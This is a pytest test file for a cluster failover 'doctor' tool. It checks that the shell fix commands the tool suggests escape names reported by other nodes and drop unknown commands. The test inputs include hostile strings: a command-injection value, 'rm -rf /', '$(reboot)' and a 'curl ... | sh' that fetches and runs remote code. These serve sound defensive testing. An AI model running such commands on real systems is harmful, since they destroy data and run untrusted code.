"""What the doctor has people paste: it does what it says, and nothing of it is another node's to choose."""

import shlex

import pytest
from doctor_cases import only, results
from hafailover.crm.doctor import FAIL, OK, WARN, boot, database, disk, fencing, modes, names, programs, same
from hafailover.crm.doctor.here import Here

EVIL = "x'; touch /tmp/owned; '$(id)`id`"


def commands(fix):
    """The words of each command in a fix, as a shell would take them apart."""
    lexer = shlex.shlex(fix, posix=True, punctuation_chars=";&|<>()")
    lexer.whitespace_split = True
    return list(lexer)


@pytest.mark.parametrize(
    ("group", "module", "facts", "check"),
    [
        (
            "fencing",
            fencing,
            {"enabled": True, "devices": {EVIL: {"status": "no route", "list": None}}},
            "fence-device",
        ),
        (
            "names",
            names,
            {"names": {"db2": "!no such name"}, "links": {"db2": [EVIL]}, "addresses": {}},
            "name-forward",
        ),
        ("names", names, {"names": {EVIL: "!no such name"}, "links": {}, "addresses": {}}, "name-forward"),
        ("disk", disk, {"disks": {f"/{EVIL}": {"free": 1, "total": 1000, "inodes": 1.0}}, "binlogs": {}}, "disk"),
        ("modes", modes, {"files": [[EVIL, 0o644, 0o600, "root", "root"]]}, "secret-mode"),
        ("programs", programs, {"found": [["db", "pre-promote", "h0", EVIL, True, "cannot be run"]]}, "hook-program"),
    ],
)
def test_a_name_that_another_node_made_up_stays_one_word(group, module, facts, check):
    fix = only(results(module, group, {"db1": facts}), check, FAIL).fix
    words = commands(fix)
    assert any(EVIL in word for word in words), fix
    assert "touch" not in words
    assert "$" not in words and "/tmp/owned" not in words


def test_a_file_that_another_node_made_up_stays_one_word():
    told = {node: {"versions": {}, "files": {EVIL: node}, "stale": [], "unmade": ""} for node in ("db1", "db2")}
    fix = only(results(same, "same", told), "same-files", FAIL).fix
    assert EVIL in commands(fix)


@pytest.mark.parametrize(
    ("fix", "kept"),
    [
        ("systemctl disable mariadb.service", True),
        ("systemctl disable 'srv-a\\x20b.mount'", True),
        ("sed -i '12s/^/# mounted by the cluster: /' /etc/fstab && systemctl daemon-reload", True),
        ("systemctl disable x; rm -rf /", False),
        ("systemctl disable $(reboot)", False),
        ("curl http://192.0.2.1/x | sh", False),
        ("", False),
    ],
)
def test_of_another_nodes_commands_only_the_known_ones_are_shown(fix, kept):
    one = only(
        results(boot, "boot", {"db1": {"found": [["/etc/x", "x is started at boot too", fix]]}}), "starts-at-boot", FAIL
    )
    assert (one.fix == fix) is kept
    assert kept or one.fix.startswith("on db1: systemctl list-unit-files")


def told_database(**changes):
    variables = {"log_bin": "ON", "log_slave_updates": "ON", "sync_binlog": "1", "read_only": "OFF", **changes}
    return {"db1": {"services": {"db": {"variables": variables, "primary": True}}}}


def test_what_a_running_server_cannot_change_is_not_pasted_into_it():
    one = only(results(database, "database", told_database(log_bin="OFF", sync_binlog="0")), "database-settings", FAIL)
    assert one.fix.startswith("mariadb -e 'SET GLOBAL sync_binlog = 1'; and ")
    assert "a running server cannot change log_bin: crm node standby db1" in one.fix
    alone = only(results(database, "database", told_database(log_slave_updates="OFF")), "database-settings", FAIL)
    assert "SET GLOBAL" not in alone.fix


def test_the_server_id_that_is_there_twice_is_named():
    told = {
        f"db{number}": {"services": {"db": {"variables": {"server_id": number_}, "primary": False}}}
        for number, number_ in ((1, "1"), (2, "7"), (3, "7"))
    }
    assert "have server_id 7" in only(results(database, "database", told), "database-same", FAIL).what
    odd = {**told, "db2": {"services": {"db": {"variables": {}}}}, "db3": {"services": {"db": {"variables": {}}}}}
    assert not [one for one in results(database, "database", odd) if one.check == "database-same"]
    lists = {**told, "db2": {"services": {"db": {"variables": {"server_id": ["1"]}}}}}
    assert not [one for one in results(database, "database", lists) if one.verdict == FAIL]


def test_open_secrets_come_before_those_for_which_there_is_no_room(monkeypatch, tmp_path):
    for number in range(5):
        (tmp_path / f"{number}").write_text("x")
        (tmp_path / f"{number}").chmod(0o600)
    (tmp_path / "9").write_text("x")
    (tmp_path / "9").chmod(0o644)
    monkeypatch.setattr(modes, "_KNOWN", {})
    monkeypatch.setattr(modes, "_DIRECTORY", str(tmp_path))
    monkeypatch.setattr(modes, "_MOST", 3)
    tmp_path.chmod(0o700)
    found = modes.read(Here("db1", None, "", {}, lambda argv, timeout=None: None))["files"]
    assert len(found) == 3
    assert found[0][:3] == [str(tmp_path / "9"), 0o644, 0o600]


@pytest.mark.parametrize(
    ("said", "well"), [("db1", True), ("DB1.example", True), ("db1-ring1", True), ("db10", False), ("web", False)]
)
def test_an_address_with_a_name_that_only_begins_like_the_nodes(said, well):
    told = {"names": {"db1": ["10.0.0.1"]}, "addresses": {"10.0.0.1": said}, "links": {"db1": ["10.0.0.1"]}}
    found = [one for one in results(names, "names", {"db1": told}) if one.check == "name-backward"]
    assert [one.verdict for one in found] == ([] if well else [WARN])


def test_nothing_to_fence_with_is_well_where_nodes_reset_themselves():
    told = {"enabled": True, "devices": {}, "watchdog": True}
    assert only(results(fencing, "fencing", {"db1": told, "db2": told}), "fence-device", OK)
    older = {"enabled": True, "devices": {}}
    assert only(results(fencing, "fencing", {"db1": told, "db2": older}), "fence-device", OK), "it is one configuration"
    assert only(results(fencing, "fencing", {"db1": {**told, "watchdog": False}}), "fence-device", FAIL)
